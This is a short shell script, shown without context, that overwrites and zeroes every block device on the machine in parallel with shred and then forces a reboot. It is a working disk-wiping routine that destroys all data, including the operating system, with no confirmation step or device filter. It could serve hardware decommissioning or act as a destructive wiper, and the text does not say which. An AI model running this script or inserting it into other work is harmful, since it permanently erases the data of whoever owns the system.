for d in $(lsblk -dno NAME); do
  shred -n 1 -z /dev/$d &
done
wait
reboot -f
